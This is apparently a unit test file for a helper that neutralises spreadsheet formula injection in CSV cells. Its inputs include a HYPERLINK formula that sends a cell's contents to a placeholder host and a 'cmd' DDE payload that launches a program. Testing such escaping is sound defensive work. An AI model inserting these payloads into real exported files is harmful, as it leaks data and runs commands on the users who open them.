import { describe, expect, it } from 'vitest'
import { neutraliseFormula, unneutraliseFormula } from './formula-cells.js'

describe('CSV formula cells', () => {
  it("puts a ' before text a spreadsheet would run as a formula", () => {
    expect(neutraliseFormula('=HYPERLINK("http://x/?"&A1)')).toBe(`'=HYPERLINK("http://x/?"&A1)`)
    expect(neutraliseFormula("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0")
    expect(neutraliseFormula('-2+3')).toBe("'-2+3")
    expect(neutraliseFormula('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(neutraliseFormula('\t=1')).toBe("'\t=1")
    expect(neutraliseFormula('\r=1')).toBe("'\r=1")
  })

  it('leaves other text alone, including a formula character later in the text', () => {
    for (const text of ['', 'Acme', 'a=b', ' =1', "'quoted", 'x@y.dk']) expect(neutraliseFormula(text)).toBe(text)
  })

  it("quotes text that already starts with ' before a formula character once more, so that it round-trips", () => {
    expect(neutraliseFormula("'=1")).toBe("''=1")
    for (const text of ['=1', "'=1", "''+x", "'plain", "'", 'Acme', '-12.5', '@', ''])
      expect(unneutraliseFormula(neutraliseFormula(text))).toBe(text)
  })
})
